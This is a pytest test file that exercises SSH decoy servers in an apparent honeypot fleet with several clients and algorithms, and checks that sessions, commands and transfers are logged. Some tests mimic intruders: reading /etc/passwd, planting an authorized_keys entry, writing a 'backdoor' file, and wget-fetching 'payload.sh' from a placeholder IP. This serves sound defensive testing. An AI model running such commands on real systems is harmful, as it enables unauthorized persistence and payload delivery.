"""OpenSSH's clients, dropbear's, PuTTY's, paramiko and curl against the demo fleet's ssh servers, and every algorithm once."""
import hashlib
import os

import paramiko
import pytest
from clients import captured, name_of, run

QUIET = ("-F", "none", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR")
KEX = ("sntrup761x25519-sha512@openssh.com", "curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384",
       "ecdh-sha2-nistp521", "diffie-hellman-group-exchange-sha256", "diffie-hellman-group16-sha512", "diffie-hellman-group18-sha512",
       "diffie-hellman-group14-sha256")
CIPHERS = ("chacha20-poly1305@openssh.com", "aes128-ctr", "aes192-ctr", "aes256-ctr", "aes128-gcm@openssh.com", "aes256-gcm@openssh.com")
MACS = ("umac-64-etm@openssh.com", "umac-128-etm@openssh.com", "hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com",
        "hmac-sha1-etm@openssh.com", "umac-64@openssh.com", "umac-128@openssh.com", "hmac-sha2-256", "hmac-sha2-512", "hmac-sha1")
HOST_KEYS = ("rsa-sha2-512", "rsa-sha2-256", "ecdsa-sha2-nistp256", "ssh-ed25519")


class Login:
    """A login that works, and the clients that use it."""

    def __init__(self, ip, port, user, password, folder):
        self.ip, self.port, self.user, self.password = ip, port, user, password
        self.ask = folder / "askpass"
        self.ask.write_text(f"#!/bin/sh\necho '{password}'\n")
        self.ask.chmod(0o700)

    def _with_password(self, *words, **more):
        return run("env", f"SSH_ASKPASS={self.ask}", "SSH_ASKPASS_REQUIRE=force", *words, **more)

    def ssh(self, *words, **more):
        return self._with_password("ssh", *QUIET, "-p", self.port, *words[:-1], f"{self.user}@{self.ip}", words[-1], **more)

    def scp(self, *words):
        return self._with_password("scp", *QUIET, "-P", self.port, *words)

    def remote(self, path):
        return f"{self.user}@{self.ip}:{path}"


@pytest.fixture
def login(known, tmp_path):
    from known_fleet import SSH
    ip, port = SSH.place(known)
    return Login(ip, port, SSH.user, SSH.password, tmp_path)


@pytest.mark.parametrize("option", [f"KexAlgorithms={name}" for name in KEX] + [f"HostKeyAlgorithms={name}" for name in HOST_KEYS] +
                         [f"Ciphers={name}" for name in CIPHERS])
def test_every_algorithm_works(login, option):
    assert login.ssh("-o", option, "echo $((6*7))") == "42\n"


@pytest.mark.parametrize("mac", MACS)
def test_every_mac_works(login, mac):
    assert login.ssh("-o", "Ciphers=aes128-ctr", "-o", f"MACs={mac}", "echo $((6*7))") == "42\n"


def test_compression_and_new_keys_in_the_middle(login):
    text = "0123456789\n" * 100_000
    assert login.ssh("-C", "-o", "RekeyLimit=200K", "cat", stdin=text) == text


def test_the_exit_status_arrives(login):
    for status in (0, 7, 255):
        done = login.ssh(f"exit {status}; echo no", check=False)
        assert done == ""
    assert login.ssh("false || echo $?") == "1\n"


def test_files_go_both_ways_and_are_captured(known, login, tmp_path):
    content = os.urandom(100_000)
    (tmp_path / "up").write_bytes(content)
    for old in ((), ("-O",)):
        login.scp(*old, tmp_path / "up", login.remote("/tmp/x"))
        login.scp(*old, login.remote("/tmp/x"), tmp_path / "down")
        assert (tmp_path / "down").read_bytes() == content
    assert hashlib.sha256(content).hexdigest() in login.ssh("sha256sum /tmp/x")
    captured(known, name_of(known, login.ip), content)


def test_forwarding_is_refused_and_recorded(known, login):
    login.ssh("-W", "192.0.2.9:80", "-o", "ClearAllForwardings=no", "", check=False)
    known.wait_for(lambda: [event for event in known.events(type="request", service="ssh") if event["fields"].get("target") == "192.0.2.9:80"])


def test_dbclient(login):
    words = ("env", f"DROPBEAR_PASSWORD={login.password}", "dbclient", "-y", "-y", "-p", login.port, f"{login.user}@{login.ip}", "echo $((6*7))")
    assert run(*words).endswith("42\n")


def test_plink(login):
    keys = run("ssh-keyscan", "-p", login.port, login.ip)
    lines = [line for line in keys.splitlines() if line and not line.startswith("#")]
    prints = [run("ssh-keygen", "-lf", "-", stdin=line + "\n").split()[1] for line in lines]
    words = [word for one in prints for word in ("-hostkey", one)]
    assert run("plink", "-batch", "-ssh", "-P", login.port, "-pw", login.password, *words, f"{login.user}@{login.ip}", "echo $((6*7))") == "42\n"


def test_paramiko(login):
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    client.connect(str(login.ip), int(login.port), login.user, login.password, look_for_keys=False, allow_agent=False)
    out = client.exec_command("exit 3")[1]
    assert out.channel.recv_exit_status() == 3
    with client.open_sftp() as files, files.open("/tmp/from-paramiko", "w") as file:
        file.write("hello")
    assert client.exec_command("cat /tmp/from-paramiko")[1].read() == b"hello"
    client.close()


@pytest.mark.parametrize("scheme", ["sftp", "scp"])
def test_curl(login, scheme):
    said = run("curl", "-s", "-k", "--user", f"{login.user}:{login.password}", f"{scheme}://{login.ip}:{login.port}/etc/passwd")
    assert said.startswith("root:x:0:0:root:/root:/bin/bash\n")


def test_the_host_keys_are_those_of_debian_and_stay(login):
    def keys():
        return sorted(line.split()[1:3] for line in run("ssh-keyscan", "-p", login.port, login.ip).splitlines() if line and line[0] != "#")
    first = keys()
    assert [kind for kind, _ in first] == ["ecdsa-sha2-nistp256", "ssh-ed25519", "ssh-rsa"]
    assert keys() == first


def terminal(login):
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    client.connect(str(login.ip), int(login.port), login.user, login.password, look_for_keys=False, allow_agent=False)
    return client, client.invoke_shell(term="xterm", width=100, height=30)


def typed(channel, line, until):
    """Types a line and reads until the text is there."""
    channel.settimeout(20)
    channel.send(line + "\r")
    seen = ""
    while until not in seen:
        got = channel.recv(65536).decode(errors="replace")
        assert got, seen
        seen += got
    return seen


def test_a_terminal_is_recorded_and_its_commands_are_events(known, login):
    client, channel = terminal(login)
    assert "uid=0(root) gid=0(root) groups=0(root)" in typed(channel, "id; echo re''corded", "recorded")
    typed(channel, "exit", "logout")
    client.close()
    command = known.wait_for(lambda: [event for event in known.events(type="command", service="ssh")
                                      if event["fields"]["command"] == "id; echo re''corded"])[0]
    row = known.wait_for(lambda: [row for row in known.api("/sessions?has_recording=true")["data"] if row["uuid"] == command["session_uuid"]])
    assert row[0]["commands"] >= 2
    cast = fetch_recording(known, command["session_uuid"])
    assert '"m","login root"' in cast and "command id; echo re" in cast and "uid=0(root)" in cast


def fetch_recording(fleet, session):
    return run("curl", "-sS", "--unix-socket", fleet.data / "decnet/run/api.sock", f"http://decnet/api/v1/sessions/{session}/recording")


def test_a_host_remembers_over_the_death_of_its_engine(known, login):
    client, channel = terminal(login)
    typed(channel, "echo back''door > /opt/.left; cat /opt/.left", "backdoor")
    typed(channel, "exit", "logout")
    client.close()
    command = known.wait_for(lambda: [event for event in known.events(type="command", service="ssh")
                                      if "/opt/.left" in event["fields"]["command"]])[0]
    known.wait_for(lambda: known.api(f"/sessions/{command['session_uuid']}")["ended_at"])
    for name in [name for name in known.children() if name.startswith("engine")]:
        known.kill(name)
    assert known.wait_for(lambda: login.ssh("cat /opt/.left", check=False).strip() == "backdoor" or None)


def test_a_key_that_was_planted_logs_in(login, tmp_path):
    key = tmp_path / "key"
    run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key)
    login.ssh(f"mkdir -p ~/.ssh && echo '{key.with_suffix('.pub').read_text().strip()}' >> ~/.ssh/authorized_keys")
    said = run("ssh", *QUIET, "-o", "BatchMode=yes", "-i", key, "-p", login.port, f"{login.user}@{login.ip}", "whoami")
    assert said == "root\n"


def test_a_host_behind_a_firewall_fetches_nothing_and_tells_what_was_asked(known, login):
    login.ssh("timeout 1 wget -q http://198.51.100.23/payload.sh; timeout 1 curl -s http://198.51.100.23/other", check=False)
    for path in ("/payload.sh", "/other"):
        known.wait_for(lambda path=path: [event for event in known.events(type="request", service="ssh")
                                          if event["fields"].get("url") == "http://198.51.100.23" + path])
